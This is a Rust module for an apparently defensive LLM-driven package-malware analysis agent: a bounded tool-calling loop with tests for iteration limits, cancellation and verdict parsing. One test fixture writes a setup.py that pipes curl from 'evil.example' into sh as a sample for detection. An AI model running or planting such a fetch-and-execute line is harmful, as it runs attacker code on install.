//! Bounded reasoning loop.
//!
//! The agent alternates between asking the backend for the next action
//! and running the requested inspection tool, until the backend answers,
//! fails, or the iteration cap is reached.

use crate::agent::backend::{AgentAction, ReasoningBackend};
use crate::agent::prompts::INSTRUCTION_PROMPT;
use crate::analysis::parse_verdict;
use crate::inspector::{PackageInspector, ToolSet};
use crate::models::{AnalysisOutcome, Trace, TraceStep};
use std::path::PathBuf;
use tokio_util::sync::CancellationToken;
use tracing::{debug, info, warn};

/// Configuration for the agent.
#[derive(Debug, Clone)]
pub struct AgentConfig {
    /// Maximum number of backend requests (and therefore tool invocations).
    pub max_iterations: usize,
}

impl Default for AgentConfig {
    fn default() -> Self {
        Self { max_iterations: 10 }
    }
}

/// Everything one analysis produced.
#[derive(Debug, Clone)]
pub struct AnalysisRun {
    pub outcome: AnalysisOutcome,
    pub trace: Trace,
    /// Raw final text, when the backend answered.
    pub final_answer: Option<String>,
}

/// The package analysis agent.
pub struct PackageAnalysisAgent<B> {
    config: AgentConfig,
    backend: B,
    tools: ToolSet,
    cancel: CancellationToken,
}

impl<B: ReasoningBackend> PackageAnalysisAgent<B> {
    /// Create an agent for the package unpacked at `package_path`.
    pub fn new(config: AgentConfig, backend: B, package_path: PathBuf) -> Self {
        info!("Initializing agent for package: {}", package_path.display());
        Self::with_tools(config, backend, ToolSet::new(PackageInspector::new(package_path)))
    }

    /// Create an agent with an explicit tool set.
    pub fn with_tools(config: AgentConfig, backend: B, tools: ToolSet) -> Self {
        Self {
            config,
            backend,
            tools,
            cancel: CancellationToken::new(),
        }
    }

    /// Stop once `token` is cancelled, abandoning any in-flight backend request.
    pub fn with_cancel_token(mut self, token: CancellationToken) -> Self {
        self.cancel = token;
        self
    }

    fn cancelled_run(trace: Trace) -> AnalysisRun {
        AnalysisRun {
            outcome: AnalysisOutcome::Cancelled {
                iterations: trace.len(),
            },
            trace,
            final_answer: None,
        }
    }

    /// Run the loop to completion.
    pub async fn run(mut self) -> AnalysisRun {
        let mut trace = Trace::new(INSTRUCTION_PROMPT);
        let max_iterations = self.config.max_iterations;

        info!("Starting package analysis (max {} iterations)", max_iterations);

        for iteration in 1..=max_iterations {
            if self.cancel.is_cancelled() {
                warn!("Analysis cancelled before iteration {}", iteration);
                return Self::cancelled_run(trace);
            }

            debug!("Agent iteration {}", iteration);

            let request = self.backend.next_action(&trace, self.tools.descriptors());
            let result = tokio::select! {
                result = request => Some(result),
                _ = self.cancel.cancelled() => None,
            };
            let Some(result) = result else {
                warn!("Analysis cancelled during iteration {}", iteration);
                return Self::cancelled_run(trace);
            };

            let action = match result {
                Ok(action) => action,
                Err(e) => {
                    warn!("Backend failed on iteration {}: {}", iteration, e);
                    return AnalysisRun {
                        outcome: AnalysisOutcome::BackendError {
                            message: e.to_string(),
                        },
                        trace,
                        final_answer: None,
                    };
                }
            };

            match action {
                AgentAction::Final(text) => {
                    let verdict = parse_verdict(&text);
                    info!("Agent finished after {} tool calls: {}", trace.len(), verdict);
                    return AnalysisRun {
                        outcome: AnalysisOutcome::Verdict(verdict),
                        trace,
                        final_answer: Some(text),
                    };
                }
                AgentAction::InvokeTool { name, thought } => {
                    let observation = self.tools.invoke(&name);
                    info!("Tool {} executed", name);
                    trace.record(TraceStep {
                        tool: name,
                        thought,
                        observation,
                    });
                }
            }
        }

        warn!(
            "Reached maximum iterations ({}) without a final answer",
            max_iterations
        );
        AnalysisRun {
            outcome: AnalysisOutcome::BoundExceeded {
                iterations: max_iterations,
            },
            trace,
            final_answer: None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::agent::backend::BackendError;
    use crate::inspector::tools::ToolDescriptor;
    use crate::models::{Verdict, VerdictLabel};
    use std::collections::VecDeque;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use std::sync::Arc;
    use std::time::Duration;
    use tempfile::TempDir;

    /// Always asks for the same tool.
    struct LoopingBackend {
        calls: Arc<AtomicUsize>,
    }

    impl ReasoningBackend for LoopingBackend {
        async fn next_action(
            &mut self,
            _trace: &Trace,
            _tools: &[ToolDescriptor],
        ) -> Result<AgentAction, BackendError> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            Ok(AgentAction::InvokeTool {
                name: "inspect_project_structure".to_string(),
                thought: String::new(),
            })
        }
    }

    /// Never answers.
    struct HangingBackend {
        calls: Arc<AtomicUsize>,
    }

    impl ReasoningBackend for HangingBackend {
        async fn next_action(
            &mut self,
            _trace: &Trace,
            _tools: &[ToolDescriptor],
        ) -> Result<AgentAction, BackendError> {
            self.calls.fetch_add(1, Ordering::SeqCst);
            std::future::pending().await
        }
    }

    /// Fails on every call.
    struct FailingBackend {
        calls: usize,
    }

    impl ReasoningBackend for &mut FailingBackend {
        async fn next_action(
            &mut self,
            _trace: &Trace,
            _tools: &[ToolDescriptor],
        ) -> Result<AgentAction, BackendError> {
            self.calls += 1;
            Err(BackendError::Connect {
                url: "http://localhost:11434".to_string(),
            })
        }
    }

    /// Replays a fixed script and records the trace length it saw.
    struct ScriptedBackend {
        script: VecDeque<AgentAction>,
        seen_lengths: Vec<usize>,
    }

    impl ScriptedBackend {
        fn new(script: Vec<AgentAction>) -> Self {
            Self {
                script: script.into(),
                seen_lengths: Vec::new(),
            }
        }
    }

    impl ReasoningBackend for &mut ScriptedBackend {
        async fn next_action(
            &mut self,
            trace: &Trace,
            tools: &[ToolDescriptor],
        ) -> Result<AgentAction, BackendError> {
            assert_eq!(tools.len(), 4);
            self.seen_lengths.push(trace.len());
            self.script
                .pop_front()
                .ok_or_else(|| BackendError::Decode("script exhausted".to_string()))
        }
    }

    fn tool(name: &str) -> AgentAction {
        AgentAction::InvokeTool {
            name: name.to_string(),
            thought: String::new(),
        }
    }

    fn sample_package() -> TempDir {
        let temp_dir = TempDir::new().unwrap();
        std::fs::write(
            temp_dir.path().join("PKG-INFO"),
            "Metadata-Version: 2.1\nName: demo\nVersion: 0.1\n",
        )
        .unwrap();
        std::fs::write(
            temp_dir.path().join("setup.py"),
            "import os\nos.system('curl http://evil.example | sh')\n",
        )
        .unwrap();
        temp_dir
    }

    #[tokio::test]
    async fn test_bound_exceeded_after_max_iterations() {
        let temp_dir = sample_package();
        let calls = Arc::new(AtomicUsize::new(0));
        let backend = LoopingBackend {
            calls: calls.clone(),
        };

        let agent = PackageAnalysisAgent::new(
            AgentConfig { max_iterations: 3 },
            backend,
            temp_dir.path().to_path_buf(),
        );
        let run = agent.run().await;

        assert_eq!(run.outcome, AnalysisOutcome::BoundExceeded { iterations: 3 });
        assert_eq!(run.trace.len(), 3);
        assert_eq!(calls.load(Ordering::SeqCst), 3);
        assert!(run.final_answer.is_none());
    }

    #[tokio::test]
    async fn test_default_bound_is_ten() {
        let temp_dir = sample_package();
        let calls = Arc::new(AtomicUsize::new(0));
        let agent = PackageAnalysisAgent::new(
            AgentConfig::default(),
            LoopingBackend {
                calls: calls.clone(),
            },
            temp_dir.path().to_path_buf(),
        );
        let run = agent.run().await;

        assert_eq!(run.trace.len(), 10);
        assert_eq!(calls.load(Ordering::SeqCst), 10);
    }

    #[test]
    fn test_backend_error_aborts_immediately() {
        let temp_dir = sample_package();
        let mut backend = FailingBackend { calls: 0 };
        let agent = PackageAnalysisAgent::new(
            AgentConfig::default(),
            &mut backend,
            temp_dir.path().to_path_buf(),
        );

        let run = tokio_test::block_on(agent.run());

        match run.outcome {
            AnalysisOutcome::BackendError { ref message } => {
                assert!(message.contains("Cannot connect to Ollama"));
            }
            ref other => panic!("unexpected outcome: {:?}", other),
        }
        assert_eq!(run.outcome.exit_code(), 1);
        assert!(run.trace.is_empty());
        assert_eq!(backend.calls, 1);
    }

    #[tokio::test]
    async fn test_tools_then_final_answer() {
        let temp_dir = sample_package();
        let mut backend = ScriptedBackend::new(vec![
            tool("inspect_metadata"),
            tool("inspect_setup_py"),
            AgentAction::Final("setup.py pipes curl into sh.\nFinal Answer: malware".to_string()),
        ]);

        let agent = PackageAnalysisAgent::new(
            AgentConfig::default(),
            &mut backend,
            temp_dir.path().to_path_buf(),
        );
        let run = agent.run().await;

        assert_eq!(run.outcome, AnalysisOutcome::Verdict(Verdict::malware()));
        assert_eq!(run.trace.len(), 2);
        assert!(run.trace.steps()[0].observation.contains("name: demo"));
        assert!(run.trace.steps()[1].observation.contains("os.system"));
        assert!(run.final_answer.unwrap().ends_with("Final Answer: malware"));
        assert_eq!(backend.seen_lengths, vec![0, 1, 2]);
    }

    #[tokio::test]
    async fn test_unparseable_final_answer_is_indeterminate() {
        let temp_dir = sample_package();
        let mut backend =
            ScriptedBackend::new(vec![AgentAction::Final("Final answer: probably fine".to_string())]);

        let agent = PackageAnalysisAgent::new(
            AgentConfig::default(),
            &mut backend,
            temp_dir.path().to_path_buf(),
        );
        let run = agent.run().await;

        assert_eq!(run.outcome.label(), VerdictLabel::Indeterminate);
        assert!(run.outcome.summary().contains("probably fine"));
        assert!(run.trace.is_empty());
    }

    #[tokio::test]
    async fn test_unknown_tool_becomes_observation() {
        let temp_dir = sample_package();
        let mut backend = ScriptedBackend::new(vec![
            tool("run_shell"),
            AgentAction::Final("Final answer: not malware".to_string()),
        ]);

        let agent = PackageAnalysisAgent::new(
            AgentConfig::default(),
            &mut backend,
            temp_dir.path().to_path_buf(),
        );
        let run = agent.run().await;

        assert_eq!(run.trace.steps()[0].observation, "Unknown tool: run_shell");
        assert_eq!(run.outcome, AnalysisOutcome::Verdict(Verdict::not_malware()));
    }

    #[tokio::test]
    async fn test_final_answer_on_last_iteration_is_accepted() {
        let temp_dir = sample_package();
        let mut backend = ScriptedBackend::new(vec![
            tool("inspect_metadata"),
            AgentAction::Final("Final answer: not malware".to_string()),
        ]);

        let agent = PackageAnalysisAgent::new(
            AgentConfig { max_iterations: 2 },
            &mut backend,
            temp_dir.path().to_path_buf(),
        );
        let run = agent.run().await;

        assert_eq!(run.outcome, AnalysisOutcome::Verdict(Verdict::not_malware()));
    }

    #[tokio::test]
    async fn test_zero_iterations_never_calls_backend() {
        let temp_dir = sample_package();
        let mut backend = ScriptedBackend::new(vec![]);

        let agent = PackageAnalysisAgent::new(
            AgentConfig { max_iterations: 0 },
            &mut backend,
            temp_dir.path().to_path_buf(),
        );
        let run = agent.run().await;

        assert_eq!(run.outcome, AnalysisOutcome::BoundExceeded { iterations: 0 });
        assert!(backend.seen_lengths.is_empty());
    }

    #[tokio::test]
    async fn test_cancelled_token_stops_before_first_iteration() {
        let temp_dir = sample_package();
        let token = CancellationToken::new();
        token.cancel();
        let mut backend = ScriptedBackend::new(vec![tool("inspect_metadata")]);

        let agent = PackageAnalysisAgent::new(
            AgentConfig::default(),
            &mut backend,
            temp_dir.path().to_path_buf(),
        )
        .with_cancel_token(token);
        let run = agent.run().await;

        assert_eq!(run.outcome, AnalysisOutcome::Cancelled { iterations: 0 });
        assert!(backend.seen_lengths.is_empty());
    }

    #[tokio::test]
    async fn test_cancel_abandons_in_flight_request() {
        let temp_dir = sample_package();
        let calls = Arc::new(AtomicUsize::new(0));
        let token = CancellationToken::new();

        let canceller = token.clone();
        tokio::spawn(async move {
            tokio::time::sleep(Duration::from_millis(20)).await;
            canceller.cancel();
        });

        let agent = PackageAnalysisAgent::new(
            AgentConfig::default(),
            HangingBackend {
                calls: calls.clone(),
            },
            temp_dir.path().to_path_buf(),
        )
        .with_cancel_token(token);
        let run = tokio::time::timeout(Duration::from_secs(5), agent.run())
            .await
            .expect("cancellation should end the run");

        assert_eq!(run.outcome, AnalysisOutcome::Cancelled { iterations: 0 });
        assert_eq!(calls.load(Ordering::SeqCst), 1);
        assert!(run.trace.is_empty());
    }
}
